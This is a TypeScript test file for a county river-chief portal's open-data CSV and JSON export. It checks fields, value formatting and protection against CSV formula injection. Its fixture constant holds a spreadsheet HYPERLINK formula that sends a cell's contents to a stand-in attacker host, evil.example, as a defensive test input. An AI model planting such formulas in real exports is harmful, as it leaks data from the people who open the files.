/**
 * src/data/opendata.ts: the datasets under /data/ from a small hand-built
 * Db: each row has exactly the documented fields, the CSV of a dataset
 * carries the same values (lists `;`-joined, null empty) with a leading '
 * before a cell a spreadsheet would run as a formula, and the JSON keeps
 * the text as entered.
 */
import { describe, expect, it } from 'vitest';
import type { Db } from '../../src/data/query.ts';
import type { Action, Assignment, Chief, Inspection, Segment, Target } from '../../src/schemas/tables.ts';
import { DATASETS, datasetCsv, datasetIndex, rowsOf } from '../../src/data/opendata.ts';
import { parseCsv } from '../../src/lib/csv.ts';
import {
  AS_OF,
  CHENGGUAN,
  DONGGANG,
  caseMaps,
  caseView,
  roster,
  site,
  stationMaps,
  stationView,
} from '../helpers/db.ts';

const FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"点击查看")';

const CHIEFS = [
  {
    id: 'zhang-wei',
    name: '张伟',
    position: '城关镇镇长',
    region: CHENGGUAN,
    phone: '0000-6120101',
    verified: '2026-09-30',
  },
  {
    id: 'wang-qiang',
    name: '王强',
    position: '原城关镇副镇长',
    region: CHENGGUAN,
    phone: '0000-6120102',
    verified: '2024-03-01',
  },
] as Chief[];
const SEGMENTS = [
  { id: 'qingxi-he-dg', water: 'qingxi-he', name: '东岗段', region: DONGGANG, start: '东岗桥', end: '老闸' },
] as Segment[];
const ASSIGNMENTS = [
  { chief: 'zhang-wei', water: 'qingxi-he', role: 'chief', start: '2021-03-01' },
  {
    chief: 'zhang-wei',
    water: 'qingxi-he',
    segment: 'qingxi-he-dg',
    role: 'segment_chief',
    start: '2022-01-01',
    duties: '@每月巡河不少于一次',
  },
  { chief: 'wang-qiang', water: 'dongmen-gou', role: 'chief', start: '2019-01-01', end: '2024-02-29' },
] as Assignment[];
const ACTIONS = [
  { date: '2026-09-01', chief: 'zhang-wei', kind: '约谈', reason: FORMULA },
  { date: '2026-03-20', chief: 'zhang-wei', kind: '约谈', reason: '-东岗村断面连续两月未达标' },
] as Action[];
const INSPECTIONS = [
  {
    id: 'kh-1',
    period: '2026-Q3',
    date: '2026-10-12',
    subject_kind: 'region',
    subject: CHENGGUAN,
    score: 92,
    rank: 1,
    result: '优秀',
  },
] as Inspection[];
const TARGETS = [
  {
    id: 'mb-01',
    name: '问题销号率',
    unit: '%',
    direction: 'up',
    baseline: 50,
    baseline_date: '2025-12-31',
    target: 90,
    deadline: '2026-12-31',
    current: 60,
    current_date: '2026-09-30',
    metric: 'cases_closed',
  },
  {
    id: 'mb-02',
    name: '+新建缓冲带',
    unit: '公里',
    direction: 'up',
    baseline: 0,
    baseline_date: '2025-12-31',
    target: 12,
    deadline: '2026-12-31',
    current: 12,
    current_date: '2026-08-31',
  },
] as Target[];

function db(): Db {
  const idx = roster({ chiefs: CHIEFS, segments: SEGMENTS, assignments: ASSIGNMENTS });
  const cases = [
    caseView({
      id: 'wt-2026-001',
      title: FORMULA,
      found: '2026-05-01',
      deadline: '2026-06-30',
      description: '+86 举报人称“每晚都有”',
      report_ref: 'JB-20260501-7XK2PA',
      lat: 30.31,
      lon: 114.32,
    }),
    caseView({ id: 'wt-2026-002', title: '东岗村段河道漂浮垃圾', found: '2026-08-01', deadline: '2026-09-30' }, [
      ['2026-08-01', 'reported'],
      ['2026-09-15', 'closed'],
    ]),
  ];
  const stations = [
    stationView({ id: 'dg-01', name: '东岗村断面', region: DONGGANG }, [
      ['2026-08-10', '1.6'],
      ['2026-09-10', '1.6'],
      ['2026-10-10', '0.004L'],
    ]),
  ];
  const actionsByChief = new Map([['zhang-wei', [...ACTIONS]]]);
  return {
    ...idx,
    site: site(),
    asOf: AS_OF,
    ...caseMaps(cases),
    ...stationMaps(idx, stations),
    actions: ACTIONS,
    actionsByChief,
    inspections: INSPECTIONS,
    targets: TARGETS,
    patrols: [{ chief: 'zhang-wei', month: '2026-09', count: 2, km: 8.5 }],
    documents: new Map([
      [
        'fangan-2026',
        {
          id: 'fangan-2026',
          title: '工作方案',
          issuer: '县河长办',
          date: '2026-02-01',
          status: 'in_force',
          kind: 'plan',
          waters: ['qingxi-he'],
          supersededBy: [],
          entry: {
            filePath: 'documents/fangan-2026.mdx',
            body: "<TaskTable rows={[{ task: '截污纳管', lead: '县住建局', support: '城关镇', deadline: '2026-06-30' }]} />",
          },
        },
      ],
    ]),
    outlets: [
      {
        id: 'pk-1',
        name: '=东岗排口',
        water: 'qingxi-he',
        region: DONGGANG,
        kind: 'municipal',
        responsible: '城关镇',
        status: 'rectifying',
        case: 'wt-2026-001',
      },
    ],
    blackOdorous: [
      {
        water: 'qingxi-he',
        segment: 'qingxi-he-dg',
        grade: 'light',
        listed: '2025-01-01',
        responsible: 'zhang-wei',
        unit: '城关镇',
        deadline: '2026-06-30',
        status: 'treating',
      },
    ],
    geo: new Map([
      [
        'qingxi-he',
        {
          type: 'LineString',
          coordinates: [
            [114.4, 30.3],
            [114.5, 30.4],
          ],
        },
      ],
      // A geometry of a water not in waters.csv is not published.
      [
        'gone-he',
        {
          type: 'LineString',
          coordinates: [
            [114.1, 30.1],
            [114.2, 30.2],
          ],
        },
      ],
    ]),
  } as unknown as Db;
}

const ds = (name: string) => DATASETS.find((d) => d.name === name)!;
/** A dataset's CSV read back: header and rows as objects by field name. */
function csv(d: Db, name: string): { header: string[]; rows: Record<string, string>[]; text: string } {
  const text = datasetCsv(ds(name), rowsOf(d, ds(name)));
  const { records, errors } = parseCsv(text.replace(/^\uFEFF/, ''));
  expect(errors).toEqual([]);
  const [head, ...rest] = records.map((r) => r.cells);
  return {
    header: head!,
    rows: rest.map((cells) => Object.fromEntries(head!.map((h, i) => [h, cells[i] ?? '']))),
    text,
  };
}

describe('every dataset', () => {
  const d = db();
  it.each(DATASETS.map((x) => [x.name, x] as const))(
    '%s: every row has exactly the documented fields, in order, and the CSV their header',
    (_name, dataset) => {
      const rows = rowsOf(d, dataset);
      expect(rows.length).toBeGreaterThan(0);
      for (const r of rows) expect(Object.keys(r)).toEqual(dataset.fields.map((f) => f.name));
      const text = datasetCsv(dataset, rows);
      expect(text.startsWith('\uFEFF' + dataset.fields.map((f) => f.name).join(',') + '\r\n')).toBe(true);
    },
  );
});

describe('cells a spreadsheet would run', () => {
  const d = db();
  it("the CSV writes them with a leading ', the JSON as entered", () => {
    const json = rowsOf(d, ds('cases')).find((r) => r.id === 'wt-2026-001')!;
    expect(json.title).toBe(FORMULA);
    expect(json.description).toBe('+86 举报人称“每晚都有”');
    const row = csv(d, 'cases').rows.find((r) => r.id === 'wt-2026-001')!;
    expect(row.title).toBe(`'${FORMULA}`);
    expect(row.description).toBe("'+86 举报人称“每晚都有”");

    expect(rowsOf(d, ds('actions')).map((r) => r.reason)).toEqual(['-东岗村断面连续两月未达标', FORMULA]);
    expect(csv(d, 'actions').rows.map((r) => r.reason)).toEqual(["'-东岗村断面连续两月未达标", `'${FORMULA}`]);
    expect(csv(d, 'assignments').rows.find((r) => r.segment === 'qingxi-he-dg')!.duties).toBe("'@每月巡河不少于一次");
    expect(csv(d, 'targets').rows.find((r) => r.id === 'mb-02')!.name).toBe("'+新建缓冲带");
  });
  it('numbers, dates, references and detection limits are left alone', () => {
    const row = csv(d, 'cases').rows.find((r) => r.id === 'wt-2026-001')!;
    expect(row).toMatchObject({
      found: '2026-05-01',
      report_ref: 'JB-20260501-7XK2PA',
      lat: '30.31',
      lon: '114.32',
      overdue_days: '123',
    });
    expect(csv(d, 'readings').rows.map((r) => r.nh3n)).toEqual(['1.6', '1.6', '0.004L']);
    expect(csv(d, 'chiefs').rows.find((r) => r.id === 'zhang-wei')!.phone).toBe('0000-6120101');
  });
});

describe('values', () => {
  const d = db();
  it('lists are ;-joined in the CSV and arrays in the JSON; booleans true/false; null empty', () => {
    expect(rowsOf(d, ds('waters')).find((r) => r.id === 'qingxi-he')!.current_chiefs).toEqual([
      '张伟（河长）',
      '张伟（河段长，东岗段）',
    ]);
    const water = csv(d, 'waters').rows.find((r) => r.id === 'qingxi-he')!;
    expect(water).toMatchObject({
      current_chiefs: '张伟（河长）;张伟（河段长，东岗段）',
      stations: 'dg-01',
      parent: '',
      kind_label: '河流',
    });
    const open = csv(d, 'cases').rows.find((r) => r.id === 'wt-2026-001')!;
    expect(open).toMatchObject({ overdue: 'true', closed_on: '', closed_on_time: '', status_label: '已登记' });
    expect(csv(d, 'cases').rows.find((r) => r.id === 'wt-2026-002')).toMatchObject({
      overdue: 'false',
      closed_on: '2026-09-15',
      closed_on_time: 'true',
    });
  });
  it('a former chief is listed without a phone and without current posts', () => {
    expect(rowsOf(d, ds('chiefs')).find((r) => r.id === 'wang-qiang')).toMatchObject({
      phone: null,
      current: [],
      current_waters: [],
    });
    expect(rowsOf(d, ds('chiefs')).find((r) => r.id === 'zhang-wei')).toMatchObject({
      current: ['qingxi-he/qingxi-he-dg/segment_chief', 'qingxi-he//chief'],
      current_waters: ['清溪河'],
    });
  });
  it('actions oldest first; assignments by water, then start', () => {
    expect(rowsOf(d, ds('actions')).map((r) => r.date)).toEqual(['2026-03-20', '2026-09-01']);
    expect(rowsOf(d, ds('assignments')).map((r) => [r.water, r.start])).toEqual([
      ['dongmen-gou', '2019-01-01'],
      ['qingxi-he', '2021-03-01'],
      ['qingxi-he', '2022-01-01'],
    ]);
  });
  it("a station's required action in its window is pending, in the accountability rows and the station's counts", () => {
    // August and September off target: 约谈 due from 2026-10-01; the 约谈 of 2026-09-01 came before the window
    expect(rowsOf(d, ds('accountability'))).toEqual([
      expect.objectContaining({
        station: 'dg-01',
        rule: 'monthly',
        from: '2026-08',
        to: '2026-09',
        length: 2,
        required: '约谈',
        responsible: ['zhang-wei'],
        window_opens: '2026-10-01',
        status: 'pending',
        recorded_date: null,
      }),
    ]);
    expect(rowsOf(d, ds('stations'))[0]).toMatchObject({
      latest_date: '2026-10-10',
      latest_class: 'I',
      latest_meets_target: true,
      months_off_target: 0,
      actions_missing: 0,
      actions_pending: 1,
    });
  });
  it('a target with a computed value publishes it with its counts and the state judged on it', () => {
    expect(rowsOf(d, ds('targets'))).toEqual([
      expect.objectContaining({
        id: 'mb-01',
        current: 60,
        computed: 50,
        computed_numerator: 1,
        computed_denominator: 2,
        state: 'behind',
        state_label: '进度滞后',
      }),
      expect.objectContaining({
        id: 'mb-02',
        metric: null,
        computed: null,
        computed_numerator: null,
        computed_denominator: null,
        state: 'achieved',
        state_label: '已完成',
      }),
    ]);
  });
});

describe('datasetIndex and rowsOf', () => {
  it('describes every dataset with its files, row count and fields', () => {
    const d = db();
    const index = datasetIndex(d);
    expect(index).toMatchObject({ name: '示例县河长制信息公开', url: 'https://hzz.example.org/', as_of: AS_OF });
    expect(index.datasets.map((x) => x.name)).toEqual(DATASETS.map((x) => x.name));
    expect(index.datasets.find((x) => x.name === 'cases')).toMatchObject({
      json: '/data/cases.json',
      csv: '/data/cases.csv',
      rows: 2,
    });
    expect(index.datasets.find((x) => x.name === 'actions')!.fields).toBe(ds('actions').fields);
    expect(index.geo).toEqual([
      { name: 'waters', title: '河湖位置', url: '/data/waters.geojson', format: 'GeoJSON', features: 1 },
    ]);
    expect(index).toMatchObject({ source: '示例县河长制办公室', license: { name: '政府信息公开', url: null } });
    expect(index.datasets.find((x) => x.name === 'cases')!.citation).toBe(
      '示例县河长制办公室：《示例县河长制信息公开》开放数据“问题台账（含办理状态）”，数据截至2026年10月31日，政府信息公开，https://hzz.example.org/data/cases.csv',
    );
  });
  it('computes a dataset once per Db', () => {
    const d = db();
    expect(rowsOf(d, ds('cases'))).toBe(rowsOf(d, ds('cases')));
    expect(rowsOf(db(), ds('cases'))).not.toBe(rowsOf(d, ds('cases')));
  });
});

describe("the plans' tables", () => {
  const d = db();
  it('an outlet name a spreadsheet would run is written with a leading quote in the CSV, as entered in the JSON', () => {
    expect(csv(d, 'outlets').rows[0]!.name).toBe("'=东岗排口");
    expect(rowsOf(d, ds('outlets'))[0]!.name).toBe('=东岗排口');
  });
  it('a black-odorous entry still being treated after its deadline is overdue, with its chief named', () => {
    expect(rowsOf(d, ds('black-odorous'))[0]).toMatchObject({
      overdue: true,
      responsible_name: '张伟',
      status_label: '整治中',
      grade_label: '轻度黑臭',
    });
  });
  it('case events are one row per event of every case', () => {
    expect(rowsOf(d, ds('case-events')).map((r) => `${r.case}/${r.status}`)).toEqual([
      'wt-2026-002/reported',
      'wt-2026-002/closed',
    ]);
  });
});

describe('tasks', () => {
  it('each task of a document in force, with its state as of as_of', () => {
    expect(rowsOf(db(), ds('tasks'))).toEqual([
      {
        document: 'fangan-2026',
        n: 1,
        task: '截污纳管',
        lead: '县住建局',
        support: ['城关镇'],
        deadline: '2026-06-30',
        done: null,
        state: 'overdue',
        state_label: '逾期未完成',
      },
    ]);
  });
});
